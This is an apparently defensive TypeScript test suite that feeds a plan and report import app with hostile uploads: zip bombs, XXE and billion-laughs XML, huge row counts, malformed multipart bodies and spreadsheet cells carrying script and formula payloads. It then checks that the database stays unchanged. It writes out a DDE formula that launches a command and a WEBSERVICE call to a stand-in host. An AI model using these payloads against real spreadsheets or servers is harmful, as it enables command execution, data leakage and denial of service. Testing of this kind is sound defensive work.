/**
 * Hostile input through the upload routes, posted as real multipart Requests by a secretary:
 * a representative subset of tests/hostile/generate.ts through /plans/import and another
 * through /reports/import (plus report-shaped files with hostile cells). The action answers
 * (400 or 413 with a message, or a preview for a file that parses) and never throws, and the
 * database is exactly as before: row counts of every table, and a checksum of the plan rows.
 */
import crypto from 'node:crypto';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { COLUMN_NUMBER, parseActivityKey } from '~/domain/report-layout';
import { buildReportXlsx } from '~/exports/report-xlsx.server';
import { importPlanIntoDatabase } from '~/models/plan-import.server';
import { getReportData } from '~/models/report.server';
import { recordStatusUpdate } from '~/models/status-update.server';
import { updateUser } from '~/models/user.server';
import { action as activityAction } from '~/routes/activities.$activityId';
import { action as planImport, MAX_IMPORT_BYTES } from '~/routes/plans.import';
import { action as reportImport, loader as reportImportLoader } from '~/routes/reports.import';
import type { User } from '../db/schema';
import { getDb } from '../db/client';
import { parsePlanFile } from '../importers';
import { FORMULAS, hostileFiles, lovechXlsx, SCRIPTS, type HostileFile } from './hostile/generate';
import { documentFiles } from './hostile/generate-documents';
import { settle, type Measured } from './hostile/settle';
import { call, makeRequest, makeUser } from './helpers';

const FILES = hostileFiles();
/** Word and Calc files are only sent when named. */
const DOCUMENT_FILES = documentFiles();
const byId = (id: string) => (FILES.find((f) => f.id === id) ?? DOCUMENT_FILES.find((f) => f.id === id))!;
let secretary: User;
let planId: number;

function snapshot() {
  const sqlite = getDb().$client;
  const tables = (sqlite.prepare(`select name from sqlite_master where type = 'table' order by name`).all() as { name: string }[]).map((t) => t.name);
  const counts = Object.fromEntries(tables.map((name) => [name, (sqlite.prepare(`select count(*) as n from "${name}"`).get() as { n: number }).n]));
  const hash = crypto.createHash('sha256');
  for (const table of ['plans', 'areas', 'measures', 'activities', 'activity_owners', 'status_updates']) {
    const rows = (sqlite.prepare(`select * from ${table}`).raw().all() as unknown[][]).map((row) => JSON.stringify(row)).sort();
    hash.update(rows.join('\n'));
  }
  return { counts, checksum: hash.digest('hex') };
}

function multipart(bytes: Uint8Array, fileName: string, path: string, fields: Record<string, string> = {}) {
  const form = new FormData();
  form.append('file', new File([Buffer.from(bytes)], fileName));
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  return makeRequest(path, { user: secretary, form });
}

/**
 * Posts the file and checks what no hostile file may do: throw out of the action, hang, or
 * change the database. Returns the response.
 */
async function postUnchanged(action: typeof planImport | typeof reportImport | typeof activityAction, request: Request, params: Record<string, string> = {}) {
  const before = snapshot(); // after makeRequest, which signs the user in (a session row)
  const outcome = await settle(() => call(action, request, params));
  expect(outcome.kind, outcome.kind === 'crashed' ? String((outcome.error as Error)?.stack) : '').toBe('parsed');
  expect(snapshot()).toEqual(before);
  return (outcome as { value: Response }).value;
}

/** Every n-th file that is not one of the large ones, plus the ones named. */
function subset(every: number, named: string[], filter: (f: HostileFile) => boolean = () => true): HostileFile[] {
  const small = FILES.filter((f) => !f.large && filter(f));
  const picked = new Set([...small.filter((_, i) => i % every === 0), ...named.map(byId)]);
  return [...picked];
}

beforeAll(async () => {
  secretary = await makeUser('secretary');
  // In English: the messages each hostile file expects (tests/hostile/generate.ts) are the English ones.
  updateUser(secretary.id, { language: 'en' });
  const parsed = await parsePlanFile(lovechXlsx(), 'lovech-2022-2024.xlsx');
  planId = importPlanIntoDatabase(parsed, { fileName: 'lovech-2022-2024.xlsx', title: 'План Ловеч', userId: secretary.id });
  const first = getDb().$client.prepare('select id from activities where plan_id = ? order by id limit 1').get(planId) as { id: number };
  recordStatusUpdate({ activityId: first.id, userId: secretary.id, status: 'in_progress', percent: 40, comment: 'Работи се.', completedOn: null });
});

const PLAN_ROUTE_FILES = subset(8, [
  'zip-bomb/real-300mb-of-zeros',
  'zip-bomb/entry-hidden-from-directory',
  'zip-bomb/declares-100kb-unpacks-to-100mb',
  'million-rows/empty-rows',
  'million-rows/csv-lines',
  'columns/column-xfd-on-every-row',
  'long-cell/1mb-title-xlsx',
  'xml/billion-laughs-shared-strings',
  'xml/external-entity-xxe',
  'xml/nested-300k-unclosed',
  'xml/cell-without-ref',
  'encoding/bom-only',
  'encoding/nul-in-cell',
  'extension/xlsx-named-csv',
  'extension/csv-named-xlsx',
  'extension/pdf-named-pdf',
  'extension/name-with-newline',
  'script/xlsx-shared-strings',
  'formula/xlsx-formula-cells',
  'dates/absurd-date-formatted',
  'sheets/500-sheets',
]);

describe('POST /plans/import with hostile files', () => {
  it('covers a representative subset', () => {
    expect(PLAN_ROUTE_FILES.length).toBeGreaterThanOrEqual(40);
    expect(new Set(PLAN_ROUTE_FILES.map((f) => f.category)).size).toBeGreaterThanOrEqual(15);
  });

  it.each(PLAN_ROUTE_FILES.map((file) => [file.id, file] as [string, HostileFile]))('%s', async (_id, file) => {
    const response = await postUnchanged(planImport, await multipart(await file.bytes(), file.fileName, '/plans/import'));
    expect([200, 400]).toContain(response.status);
    const body = await response.json();
    // A file read but with nothing recognised in it opens the mapping step: a preview that says why
    // (body.problem, the importer's message) and cannot be confirmed, with no activity in it.
    const refusal: string | undefined = response.status === 400 ? body.detail : (body.problem ?? undefined);
    if (file.expect === 'refused') expect(refusal).toEqual(expect.any(String));
    if (file.expect === 'parsed') expect(response.status).toBe(200);
    if (response.status === 400) expect(body.error).toBe('importUnreadable');
    if (refusal !== undefined) {
      expect(refusal).not.toMatch(/[\r\n]/);
      if (/^[\w.]+$/.test(file.fileName)) expect(refusal.startsWith(`${file.fileName}: `)).toBe(true);
      if (file.message && /^[\w.]+$/.test(file.fileName)) expect(refusal).toMatch(file.message);
    }
    if (response.status === 200) {
      expect(body.token).toEqual(expect.any(String));
      if (body.problem) expect(body.counts.activities).toBe(0);
      for (const text of file.verbatim ?? []) expect(JSON.stringify(body)).toContain(JSON.stringify(text).slice(1, -1));
    }
  });

  it.each(['large/50mb-csv', 'large/50mb-xlsx-stored', 'large/50mb-random'])('%s is refused with 413 before it is read', async (id) => {
    const file = byId(id);
    const bytes = await file.bytes();
    expect(bytes.length).toBeGreaterThan(MAX_IMPORT_BYTES);
    // As a browser sends it (with its length), and as a client that leaves the length out.
    const request = await multipart(bytes, file.fileName, '/plans/import');
    const withLength = new Request(request, { headers: new Headers([...request.headers, ['Content-Length', String(bytes.length + 300)]]) });
    for (const req of [withLength, await multipart(bytes, file.fileName, '/plans/import')]) {
      const response = await postUnchanged(planImport, req);
      expect(response.status).toBe(413);
      expect(await response.json()).toEqual({ error: 'importTooLarge' });
    }
  });

  it('refuses a re-import of a hostile file into the existing plan, leaving the plan as it was', async () => {
    for (const id of ['truncated/at-4599', 'xml/billion-laughs-sheet', 'million-rows/csv-lines']) {
      const file = byId(id);
      const response = await postUnchanged(planImport, await multipart(await file.bytes(), file.fileName, '/plans/import', { planId: String(planId) }));
      expect(response.status).toBe(400);
    }
  });
});

/**
 * What any upload may take of a worker: memory over its resting size, time to the answer, and
 * the event loop at a stretch. The readers let it go every 50 ms of work (ReadBudget); the
 * bound is 200 ms on a core of its own, and wall time on a machine running several suites at
 * once stretches it (and a full garbage collection of the test process lands in it), so the
 * test allows more and prints what it measured.
 */
const MAX_UPLOAD_GROWTH_MB = 300;
const MAX_UPLOAD_MS = 10_000;
const MAX_BLOCK_MS = 1000;

describe('small files that would take gigabytes or hold the event loop, through the upload', () => {
  const measured: (Measured & { file: string; status: number })[] = [];
  const routes = [
    ['/plans/import', 'budget/330-sheets-of-99999-empty-rows', planImport],
    ['/plans/import', 'budget/150-sheets-of-99999-empty-rows', planImport],
    ['/plans/import', 'budget/9-million-tiny-shared-strings', planImport],
    ['/plans/import', 'budget/1-million-tiny-shared-strings', planImport],
    ['/plans/import', 'budget/26-sheets-of-4000-rows', planImport],
    ['/plans/import', 'budget/32000-char-string-in-21000-cells', planImport],
    ['/reports/import', 'budget/330-sheets-of-99999-empty-rows', reportImport],
    ['/reports/import', 'budget/150-sheets-of-99999-empty-rows', reportImport],
    ['/plans/import', 'million-rows/empty-rows', planImport],
    ['/plans/import', 'million-rows/csv-lines', planImport],
    ['/plans/import', 'docx/200000-rows', planImport],
  ] as const;

  it.each(routes)('%s %s', async (path, id, action) => {
    const file = byId(id);
    const request = await multipart(await file.bytes(), file.fileName, path);
    global.gc?.();
    const before = snapshot();
    // A minute to settle, so that what it takes is measured even when it is far over the limit.
    const outcome = await settle(() => call(action, request), 60_000);
    measured.push({ file: `${path} ${id}`, status: outcome.kind === 'parsed' ? outcome.value.status : 0, ms: outcome.ms, peakMb: outcome.peakMb, blockMs: outcome.blockMs });
    expect(outcome.kind).toBe('parsed');
    const response = (outcome as { value: Response }).value;
    expect(response.status).toBe(400);
    const body = await response.json();
    expect(body.detail).toMatch(file.message!);
    expect(snapshot()).toEqual(before);
    expect(outcome.peakMb, 'memory growth in MB').toBeLessThanOrEqual(MAX_UPLOAD_GROWTH_MB);
    expect(outcome.ms, 'time to the answer').toBeLessThanOrEqual(MAX_UPLOAD_MS);
    expect(outcome.blockMs, 'longest event-loop block').toBeLessThanOrEqual(MAX_BLOCK_MS);
  });

  afterAll(() => {
    const worst = (key: keyof Measured) => measured.reduce((a, b) => (b[key] > a[key] ? b : a), measured[0]!);
    const lines = measured.map((m) => `${String(m.status).padStart(3)} ${String(m.ms).padStart(6)} ms ${String(m.peakMb).padStart(5)} MB ${String(m.blockMs).padStart(6)} ms block  ${m.file}`);
    console.log(
      `uploads within the workbook budget:\n${lines.join('\n')}\n` +
        `worst: peak RSS over resting ${worst('peakMb').peakMb} MB (${worst('peakMb').file}), ` +
        `time ${worst('ms').ms} ms (${worst('ms').file}), longest event-loop block ${worst('blockMs').blockMs} ms (${worst('blockMs').file})`,
    );
  });
});

/** A POST with the body given as it is, as a secretary. */
async function rawPost(path: string, contentType: string, body: string) {
  const signedIn = await makeRequest(path, { user: secretary, method: 'POST', headers: { 'Content-Type': contentType } });
  return new Request(signedIn.url, { method: 'POST', headers: signedIn.headers, body });
}

function multipartBody(boundary: string, fileName: string, content: string) {
  return `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: text/csv\r\n\r\n${content}\r\n--${boundary}--\r\n`;
}

describe('hostile multipart bodies', () => {
  const boundary = '----hostile0123456789';
  const type = `multipart/form-data; boundary=${boundary}`;
  const routes = [
    ['/plans/import', planImport],
    ['/reports/import', reportImport],
  ] as const;

  it.each(routes)('%s: a file of 1.5 million CRLF lines arriving as one chunk', async (path, action) => {
    // Remix's multipart parser spread each line into one call: "Maximum call stack size exceeded".
    const response = await postUnchanged(action, await rawPost(path, type, multipartBody(boundary, 'plan.csv', '\r\n'.repeat(1_500_000))));
    expect(response.status).toBe(400);
  });

  it.each(routes)('%s: a body cut off before its closing boundary', async (path, action) => {
    const body = multipartBody(boundary, 'plan.csv', 'Мярка;Дейност;Начало\r\n'.repeat(100));
    const response = await postUnchanged(action, await rawPost(path, type, body.slice(0, body.length - 40)));
    expect(response.status).toBe(400);
    expect(await response.json()).toEqual({ error: 'uploadMalformed' });
  });

  it.each(routes)('%s: multipart without a boundary, and a part without its disposition', async (path, action) => {
    for (const request of [
      await rawPost(path, 'multipart/form-data', 'x'),
      await rawPost(path, type, `--${boundary}\r\nContent-Type: text/csv\r\n\r\nx\r\n--${boundary}--\r\n`),
      await rawPost(path, type, `--${boundary}\r\nContent-Disposition: attachment; "\r\n\r\nx\r\n--${boundary}--\r\n`),
    ]) {
      const response = await postUnchanged(action, request);
      expect(response.status).toBe(400);
      expect((await response.json()).error).toBe('uploadMalformed');
    }
  });
});

describe('hostile multipart bodies with an evidence file', () => {
  const boundary = '----hostile0123456789';
  const type = `multipart/form-data; boundary=${boundary}`;
  const activityId = () =>
    (getDb().$client.prepare('select id from activities where plan_id = ? order by id limit 1').get(planId) as { id: number }).id;

  it('refuses a file of 1.5 million CRLF lines arriving as one chunk, and a cut-off body', async () => {
    const params = { activityId: String(activityId()) };
    const path = `/activities/${params.activityId}`;
    const lines = multipartBody(boundary, 'доказателство.txt', '\r\n'.repeat(1_500_000));
    const cut = multipartBody(boundary, 'доказателство.txt', 'отчет\r\n'.repeat(100)).slice(0, -40);
    // Read whole (it is well-formed), then refused for want of a form: no intent.
    const read = await postUnchanged(activityAction, await rawPost(path, type, lines), params);
    expect(read.status).toBe(400);
    expect(await read.json()).toMatchObject({ ok: false, errors: { form: 'trBadForm' } });
    const broken = await postUnchanged(activityAction, await rawPost(path, type, cut), params);
    expect(broken.status).toBe(400);
    expect(await broken.json()).toMatchObject({ ok: false, errors: { evidenceFile: 'trBadForm' } });
  });

  it('refuses a viewer before reading the body', async () => {
    const params = { activityId: String(activityId()) };
    const viewer = await makeUser('viewer');
    const signedIn = await makeRequest(`/activities/${params.activityId}`, { user: viewer, method: 'POST', headers: { 'Content-Type': type } });
    const body = new ReadableStream<Uint8Array>({
      pull() {
        throw new Error('the body was read');
      },
    });
    const request = new Request(signedIn.url, { method: 'POST', headers: signedIn.headers, body, duplex: 'half' } as RequestInit);
    const response = await postUnchanged(activityAction, request, params);
    expect(response.status).toBe(403);
  });
});

/** The Q3 2023 report of the plan, with cells edited as in Excel (by activity key). */
async function report(edit: (row: ExcelJS.Row) => void): Promise<Uint8Array> {
  const exported = await buildReportXlsx(getReportData(planId, { kind: 'quarter', year: 2023, index: 3 }, { preparedBy: 'Секретар', today: '2026-01-15' })!, 'bg');
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(exported as unknown as ArrayBuffer);
  book.worksheets[1]!.eachRow((row) => {
    if (parseActivityKey(String(row.getCell(COLUMN_NUMBER.key).value ?? ''))) edit(row);
  });
  return new Uint8Array(await book.xlsx.writeBuffer());
}

const REPORT_ROUTE_FILES = subset(30, ['zip-bomb/real-300mb-of-zeros', 'zip-bomb/entry-hidden-from-directory', 'million-rows/empty-rows', 'xml/billion-laughs-shared-strings', 'xml/nested-1m-distinct-names', 'long-cell/1mb-shared-string', 'columns/column-xfd-on-every-row', 'extension/xlsx-named-csv'], (f) => /\.xlsx$/i.test(f.fileName) || f.id === 'extension/xlsx-named-csv');

describe('POST /reports/import with hostile files', () => {
  it('covers a representative subset', () => {
    expect(REPORT_ROUTE_FILES.length).toBeGreaterThanOrEqual(14);
  });

  it.each(REPORT_ROUTE_FILES.map((file) => [file.id, file] as [string, HostileFile]))('%s', async (_id, file) => {
    const response = await postUnchanged(reportImport, await multipart(await file.bytes(), file.fileName, '/reports/import'));
    // A file that is no report at all still previews (with the warning that no sheet is a report).
    expect([302, 400]).toContain(response.status);
    if (file.expect === 'refused') {
      expect(response.status).toBe(400);
      const body = await response.json();
      expect(body.error).toBe('repImportUnreadable');
      expect(body.detail).not.toMatch(/[\r\n]/);
    }
  });

  const cases: [string, (row: ExcelJS.Row, n: number) => void][] = [
    ['script in the status, report and key cells', (row, n) => {
      row.getCell(COLUMN_NUMBER.status).value = SCRIPTS[n % SCRIPTS.length]!;
      row.getCell(COLUMN_NUMBER.comment).value = SCRIPTS[(n + 1) % SCRIPTS.length]!;
      if (n % 3 === 0) row.getCell(COLUMN_NUMBER.key).value = `ID-${SCRIPTS[0]}`;
    }],
    ['formula payloads in every status column', (row, n) => {
      for (const column of ['status', 'percent', 'comment', 'completedOn', 'newEnd'] as const) row.getCell(COLUMN_NUMBER[column]).value = FORMULAS[n % FORMULAS.length]!;
    }],
    ['real formulas with cached results', (row) => {
      row.getCell(COLUMN_NUMBER.status).value = { formula: "cmd|' /C calc'!A0", result: 'изпълнена' };
      row.getCell(COLUMN_NUMBER.percent).value = { formula: 'WEBSERVICE("http://evil.example")', result: 0.5 };
    }],
    ['absurd dates and percentages', (row, n) => {
      const absurd = [1e308, -1e308, -1, 0, 99999999, '31.02.2023', '01.01.0000', '1.1.99999', NaN, Infinity];
      row.getCell(COLUMN_NUMBER.completedOn).value = absurd[n % absurd.length]!;
      row.getCell(COLUMN_NUMBER.newEnd).value = absurd[(n + 3) % absurd.length]!;
      row.getCell(COLUMN_NUMBER.percent).value = [1e308, -5, 101, 'NaN', '٣٠٪'][n % 5]!;
      row.getCell(COLUMN_NUMBER.status).value = 'изпълнена';
    }],
    ['keys of activities of another plan, or none', (row, n) => {
      row.getCell(COLUMN_NUMBER.key).value = n % 2 ? `ID-999999-${n}-0-0-0-0-0` : null;
      row.getCell(COLUMN_NUMBER.status).value = 'изпълнена';
    }],
    ['32,767-character reports in every row', (row) => {
      row.getCell(COLUMN_NUMBER.comment).value = 'я'.repeat(32_767);
      row.getCell(COLUMN_NUMBER.status).value = 'в процес на изпълнение';
    }],
  ];

  it.each(cases)('a report with %s previews, recording nothing', async (_name, edit) => {
    let n = 0;
    const bytes = await report((row) => edit(row, n++));
    const response = await postUnchanged(reportImport, await multipart(bytes, 'отчет.xlsx', '/reports/import'));
    expect(response.status).toBe(302);
    const location = response.headers.get('Location')!;
    const page = await call(reportImportLoader, await makeRequest(location, { user: secretary }));
    const { preview } = await page.json();
    expect(preview.fileName).toBe('отчет.xlsx');
    // What the rows said comes back as text (shown escaped by React), never as markup or formulas run.
    for (const row of preview.rows) expect(row.statusText).toEqual(expect.any(String));
  });
});
